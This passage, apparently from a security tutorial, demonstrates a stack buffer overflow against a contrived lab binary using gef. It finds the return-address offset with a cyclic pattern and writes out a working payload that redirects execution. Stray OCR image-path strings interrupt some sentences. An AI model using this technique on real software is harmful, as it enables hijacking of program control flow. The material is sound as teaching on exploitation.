We will now run the program again, but this time with a buffer that is larger than 80 bytes. To do this, we can use the command "pattern create 120" which will print a sequence of characters that is a combination of non-repeating combinations of letters. Usingthis, if the program crashes, we can identify at which specific characters caused the crash and what their offset in the input was. The first step is creating the pattern:
gef➤ pattern create 120
[+] Generating a pattern of 120 bytes
[+] Saved as '$_gef0'
And then running the program with that pattern of characters as input. Stepping through the instructions until we get to the strcpy statement and then using the next command, we return to the assembly
→ 0x401187 <function+31> nop
0x401188 <function+32> leave
0x401189 <function+33> ret
The first si will execute nop which is a no operation instruction, it does nothing. The leave instruction resets the rsp to the base pointer in rbp and then pops rbp. After the leave instruction, rsp contains the return address the program will try and jump to on executing the ret.
However, the rsp now contains an address that points to the string "laaaaaaamaaaaaaanaaaaaaaoaaaaaaa". If we search for the offset of this string, we find out that it is located at byte 88.gef➤ pattern offset laaaaaaamaaaaaaanaaaaaaaoaaaaaaa
[+] Searching 'laaaaaaamaaaaaaanaaaaaaaoaaaaaaa'
[+] Found at offset 88 (big-endian search)
Doing another si will cause the program to crash with a SIGSEGV, a segmentation fault.
The good news is that we are able to control the return address simply by adding the address we want the program to jump to by adding that address at offset 88 in the input. What we want to do is to jump to the address of the function overflowed. If we type disassemble overflowed, this will show the assembly for the function with the addresses of each instruction.
gef➤ disassemble overflowed
Dump of assembler code for function overflowed:
0x0000000000401142 <+0>: push rbp
0x0000000000401143 <+1>: mov rbp,rsp
0x0000000000401146 <+4>: lea rdi,[rip+0xeb7] # 0x402004
0x000000000040114d <+11>: call 0x401040 <puts@plt>
0x0000000000401152 <+16>: mov edi,0x0
0x0000000000401157 <+21>: call 0x401050 <exit@plt>
End of assembler dump.
The first instruction is at the address 0x401142 (ignoring the leading zeros). So we can construct an input string of 88 'A's and then the address \x42\x11\x40. The address is in reverse order because the machine is "little endian" which means that addresses are listed withtheir least significant bytes first. The input can be generated using the command:
r $(python -c "print(('A'*88) + '\x42\x11\x40')")
We can now repeat the process of stepping through theinstructions until the strcpy. This time, after single stepping over the leave instruction, rsp is pointing to the function overflowed
0x00007fffffffded8│+0x0000: 0x0000000000401142 → <overflowed+0> push rbp ← $rsp
Doing another si will start theexecution of overflowed.
The program can also be run from the command line with:
└──╼ $./bofexample $(python -c "print(('A'*88) + '\x42\x11\x40')")
*** Success! ***
└──╼ $
Obviously, this is a contrived example and things are not quite so simple when gaining control of a real application. For a start, the objective is to run code that gives us a shell or executes other commands the attacker supplies like launching a specific program or run a malware implant. In order to see how this is done, we can look at a Hack The Box machine Ellingson to show how to do what is called Return Oriented Programming (ROP) as a means of getting a buffer overflow to execute code that the attacker controls.